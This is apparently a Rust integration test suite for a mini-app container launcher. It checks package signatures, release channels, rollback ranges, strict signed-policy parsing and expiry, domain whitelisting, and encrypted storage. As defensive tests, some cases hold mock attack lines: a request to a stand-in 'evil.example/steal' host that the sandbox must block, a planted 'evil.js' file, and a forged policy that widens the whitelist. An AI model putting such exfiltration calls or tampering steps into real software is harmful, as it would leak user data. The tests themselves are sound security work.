//! The one launch path: a `Launcher` exists only for a package verified against the
//! platform's keys (channel and rollback range included), with the platform's signed policy
//! for this app and host app (verified, read strictly, not expired beyond its grace) and the
//! host's storage secret; the app it launches runs under that policy, behind the guard, with
//! its storage encrypted. Each refusal here is one of those checks: remove it and its test
//! fails.

use crate::common;

use std::path::Path;
use std::sync::OnceLock;

use base64::Engine as _;
use cove_container::{
    HostSecret, HostSecrets, LaunchError, Launcher, PlatformTrust, SignedPolicy, verify_policy,
};
use cove_package::{Channel, KeyPair, Limits, Purpose, RollbackRange, SignOptions, Suite};
use serde_json::{Value, json};

const APP: &str = "wxcove0000demo01";
const SDK_KEY: &str = "bank-app";
const DAY: i64 = 86_400;
/// A fixed "now" for the policies, Unix seconds.
const NOW: i64 = 1_800_000_000;

fn demo_zip(version: u64) -> Vec<u8> {
    static ZIPS: OnceLock<std::sync::Mutex<std::collections::HashMap<u64, Vec<u8>>>> =
        OnceLock::new();
    let cache = ZIPS.get_or_init(Default::default);
    if let Some(z) = cache.lock().unwrap().get(&version) {
        return z.clone();
    }
    let opts = cove_compiler::CompileOptions {
        version_code: Some(version),
        ..Default::default()
    };
    let out = cove_compiler::compile_dir(Path::new("../../examples/demo"), &opts).unwrap();
    let zip = cove_compiler::output::zip_bytes(&out.files).unwrap();
    cache.lock().unwrap().insert(version, zip.clone());
    zip
}

fn sign(key: &KeyPair, version: u64, channel: Channel, rollback: Option<[u64; 2]>) -> Vec<u8> {
    let opts = SignOptions {
        channel,
        rollback: rollback.map(RollbackRange::from),
        limits: Limits::default(),
    };
    cove_package::sign(&demo_zip(version), key, &opts).unwrap()
}

fn release(key: &KeyPair, version: u64) -> Vec<u8> {
    sign(key, version, Channel::Release, None)
}

/// The platform's signature over `payload` for `app_id` on the host app `sdk_key`.
fn signed(key: &KeyPair, app_id: &str, sdk_key: &str, payload: &Value) -> SignedPolicy {
    let bytes = payload.to_string();
    let statement = cove_wire::policy_statement(app_id, sdk_key, bytes.as_bytes());
    let b64 = base64::engine::general_purpose::STANDARD;
    SignedPolicy {
        payload: b64.encode(&bytes),
        key_id: key.id().into(),
        signature: b64.encode(key.sign(&statement).unwrap()),
    }
}

/// A policy as the platform signs it: issued at `NOW`, valid 7 days, 3 of grace.
fn payload() -> Value {
    json!({
        "domains": {"request": ["api.bank.example"], "socket": [], "upload": [], "download": [], "web_view": []},
        "grants": {"apis": ["getLocation"], "host_apis": [], "privacy": {"location_precision": 0.01}},
        "issued_at": NOW,
        "expires_at": NOW + 7 * DAY,
        "grace_secs": 3 * DAY,
    })
}

struct Platform {
    key: KeyPair,
    trust: PlatformTrust,
    secrets: HostSecrets,
}

fn platform() -> Platform {
    let key = KeyPair::generate(Suite::Intl, Purpose::Sign, Some("bank-platform")).unwrap();
    let trust = PlatformTrust::new(vec![key.public()], vec![], SDK_KEY);
    let secrets = HostSecrets::new(HostSecret::new(vec![9u8; 32]).unwrap());
    Platform {
        key,
        trust,
        secrets,
    }
}

impl Platform {
    fn policy(&self) -> SignedPolicy {
        signed(&self.key, APP, SDK_KEY, &payload())
    }

    fn install(&self, bytes: &[u8], dir: &Path) -> Result<Launcher, LaunchError> {
        Launcher::install(
            &self.trust,
            &self.secrets,
            APP,
            bytes,
            dir,
            &self.policy(),
            NOW,
        )
    }

    fn installed(&self, dir: &Path) -> Result<Launcher, LaunchError> {
        Launcher::installed(&self.trust, &self.secrets, APP, dir, &self.policy(), NOW)
    }
}

fn code<T>(r: Result<T, LaunchError>) -> &'static str {
    match r {
        Ok(_) => "ok",
        Err(e) => {
            println!("refused: {e}");
            e.code()
        }
    }
}

#[test]
fn a_verified_package_runs_under_the_signed_policy_with_encrypted_storage() {
    let p = platform();
    let dir = tempfile::tempdir().unwrap();
    let launcher = p.install(&release(&p.key, 2), dir.path()).unwrap();
    assert_eq!((launcher.app_id(), launcher.version_code()), (APP, 2));
    assert_eq!(launcher.policy().domains.request, ["api.bank.example"]);
    assert_eq!(launcher.policy().privacy.location_precision, Some(0.01));

    let host = common::TestHost::new();
    let data = dir.path().join("data");
    let app = launcher.launch(&data, host.clone(), None).unwrap();
    app.eval_json(
        "wx.setStorageSync('card', 'card-4111-in-clear'),
         wx.request({url: 'https://evil.example/steal', fail: (e) => console.log('request ' + e.errMsg)}),
         wx.chooseAddress({fail: (e) => console.log('address ' + e.errMsg)}),
         1",
    )
    .unwrap();
    // The network answers on its own thread: wait for both answers (a deadline, not a
    // measure).
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    while host.logs().len() < 3 && std::time::Instant::now() < deadline {
        app.settle().unwrap();
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let logs = host.logs();
    let has = |needle: &str| logs.iter().any(|l| l.contains(needle));
    // The network reaches only the policy's domains: no dev mode.
    assert!(
        has("request request:fail url not in domain list"),
        "{logs:?}"
    );
    // Behind the guard: an API the policy does not grant fails before the host sees it.
    assert!(
        has("address chooseAddress:fail jsapi has no permission"),
        "{logs:?}"
    );
    assert!(
        !host
            .requests
            .lock()
            .unwrap()
            .iter()
            .any(|(api, _)| api == "chooseAddress")
    );
    drop(app);
    // Storage is sealed under the host's secret: nothing on disk in clear.
    let files: Vec<Vec<u8>> = std::fs::read_dir(data.join("storage"))
        .unwrap()
        .map(|e| std::fs::read(e.unwrap().path()).unwrap())
        .collect();
    assert!(!files.is_empty());
    for f in &files {
        assert!(f.starts_with(b"COVESTOR"), "{}", String::from_utf8_lossy(f));
        assert!(
            !f.windows(10).any(|w| w == b"card-4111-"),
            "stored in clear"
        );
    }

    // Launched again from what is installed, verified again: the value is there.
    let again = p.installed(dir.path()).unwrap();
    let host = common::TestHost::new();
    let app = again.launch(&data, host, None).unwrap();
    assert_eq!(
        app.eval_json("wx.getStorageSync('card')").unwrap(),
        "card-4111-in-clear"
    );
}

#[test]
fn only_signed_intact_packages_install_and_launch() {
    let p = platform();
    let dir = tempfile::tempdir().unwrap();
    // Unsigned, or signed by a key this host does not trust.
    assert_eq!(code(p.install(&demo_zip(1), dir.path())), "unsigned");
    let stranger = KeyPair::generate(Suite::Intl, Purpose::Sign, Some("stranger")).unwrap();
    assert_eq!(
        code(p.install(&release(&stranger, 1), dir.path())),
        "unknown_key"
    );
    assert!(!dir.path().join("package").exists(), "a refusal wrote");

    // Installed, then changed on disk: each launch verifies it again.
    p.install(&release(&p.key, 1), dir.path()).unwrap();
    let app_json = dir.path().join("package/app.json");
    let original = std::fs::read(&app_json).unwrap();
    std::fs::write(&app_json, [&original[..], b" "].concat()).unwrap();
    assert_eq!(code(p.installed(dir.path())), "digest_mismatch");
    std::fs::write(&app_json, &original).unwrap();
    let added = dir.path().join("package/pages/evil.js");
    std::fs::write(&added, "steal()").unwrap();
    assert_eq!(code(p.installed(dir.path())), "installed_changed");
    std::fs::remove_file(&added).unwrap();
    let manifest = dir.path().join("package/manifest.json");
    let m = std::fs::read(&manifest).unwrap();
    std::fs::write(&manifest, [&m[..], b"\n"].concat()).unwrap();
    assert_eq!(code(p.installed(dir.path())), "bad_signature");
    std::fs::write(&manifest, &m).unwrap();
    let sig = dir.path().join("signature.json");
    let s = std::fs::read(&sig).unwrap();
    std::fs::remove_file(&sig).unwrap();
    assert_eq!(code(p.installed(dir.path())), "unsigned");
    std::fs::write(&sig, &s).unwrap();
    assert_eq!(code(p.installed(dir.path())), "ok");
}

#[test]
fn a_package_signed_for_another_channel_is_refused() {
    let p = platform();
    let dir = tempfile::tempdir().unwrap();
    let trial = sign(&p.key, 1, Channel::Trial, None);
    assert_eq!(code(p.install(&trial, dir.path())), "wrong_channel");
    assert!(!dir.path().join("package").exists());
    // A testers' host that takes trial builds.
    let testers = Platform {
        key: p.key.clone(),
        trust: PlatformTrust {
            channels: vec![Channel::Trial],
            ..p.trust.clone()
        },
        secrets: p.secrets.clone(),
    };
    assert_eq!(code(testers.install(&trial, dir.path())), "ok");
    // The channel is checked again at launch: a release host does not launch the trial
    // build a testers' host installed in the same folder.
    assert_eq!(code(p.installed(dir.path())), "wrong_channel");
}

#[test]
fn a_rollback_replaces_only_the_versions_it_was_signed_for() {
    let p = platform();
    let dir = tempfile::tempdir().unwrap();
    p.install(&release(&p.key, 3), dir.path()).unwrap();
    // Not signed as a rollback: no downgrade.
    assert_eq!(
        code(p.install(&release(&p.key, 2), dir.path())),
        "downgrade"
    );
    // Signed as a rollback of 3 (the version published above 2): accepted over 3.
    let back = sign(&p.key, 2, Channel::Release, Some([3, 3]));
    assert_eq!(code(p.install(&back, dir.path())), "ok");
    // Version 4 is published later; the old rollback cannot take a device back from it.
    p.install(&release(&p.key, 4), dir.path()).unwrap();
    assert_eq!(code(p.install(&back, dir.path())), "rollback_out_of_range");
    assert_eq!(p.installed(dir.path()).unwrap().version_code(), 4);
}

#[test]
fn the_policy_is_verified_read_strictly_and_expires() {
    let p = platform();
    let keys = [p.key.public()];
    let verify = |policy: &SignedPolicy, app: &str, sdk_key: &str, now: i64| {
        verify_policy(app, sdk_key, policy, &keys, now).map_err(|e| {
            println!("refused: {e}");
            e.code()
        })
    };
    let good = p.policy();
    assert!(verify(&good, APP, SDK_KEY, NOW).is_ok());
    // Signed for another app, or another host app: not this one's.
    assert_eq!(
        verify(&good, "wxother", SDK_KEY, NOW),
        Err("policy_signature")
    );
    assert_eq!(
        verify(&good, APP, "another-host", NOW),
        Err("policy_signature")
    );
    // Changed on the device: a wider whitelist.
    let mut wider = payload();
    wider["domains"]["request"] = json!(["evil.example"]);
    let forged = SignedPolicy {
        payload: base64::engine::general_purpose::STANDARD.encode(wider.to_string()),
        ..good.clone()
    };
    assert_eq!(verify(&forged, APP, SDK_KEY, NOW), Err("policy_signature"));
    // Signed by a key this host does not trust.
    let stranger = KeyPair::generate(Suite::Intl, Purpose::Sign, Some("stranger")).unwrap();
    let theirs = signed(&stranger, APP, SDK_KEY, &payload());
    assert_eq!(verify(&theirs, APP, SDK_KEY, NOW), Err("policy_signature"));

    // Signed, but not readable in full: refused, never applied as "no rule".
    for (path, value) in [
        ("/grants/privacy/phone", json!("masked")),
        ("/grants/privacy/phone_number", json!("mask")),
        ("/grants/privacy/location_precision", json!(0)),
        ("/grants/apis", json!("getLocation")),
        ("/grants/payments", json!(["requestPayment"])),
        ("/domains/request", json!("api.bank.example")),
        ("/domains/dev_mode", json!(true)),
        ("/grace_secs", json!(-1)),
        ("/expires_at", json!(NOW - 1)),
    ] {
        let mut bad = payload();
        let (parent, key) = path.rsplit_once('/').unwrap();
        bad.pointer_mut(parent).unwrap()[key] = value.clone();
        let policy = signed(&p.key, APP, SDK_KEY, &bad);
        assert_eq!(
            verify(&policy, APP, SDK_KEY, NOW),
            Err("policy_format"),
            "{path} = {value}"
        );
    }
    let mut no_expiry = payload();
    no_expiry.as_object_mut().unwrap().remove("expires_at");
    let policy = signed(&p.key, APP, SDK_KEY, &no_expiry);
    assert_eq!(verify(&policy, APP, SDK_KEY, NOW), Err("policy_format"));

    // Expiry: valid until 7 days after issue, then 3 days of grace, then refused.
    assert!(verify(&good, APP, SDK_KEY, NOW + 7 * DAY).is_ok());
    assert!(verify(&good, APP, SDK_KEY, NOW + 10 * DAY).is_ok());
    assert_eq!(
        verify(&good, APP, SDK_KEY, NOW + 10 * DAY + 1),
        Err("policy_expired")
    );
    // And the launcher refuses it too, before installing anything.
    let dir = tempfile::tempdir().unwrap();
    let late = Launcher::install(
        &p.trust,
        &p.secrets,
        APP,
        &release(&p.key, 1),
        dir.path(),
        &good,
        NOW + 11 * DAY,
    );
    assert_eq!(code(late), "policy_expired");
    assert!(!dir.path().join("package").exists());
}
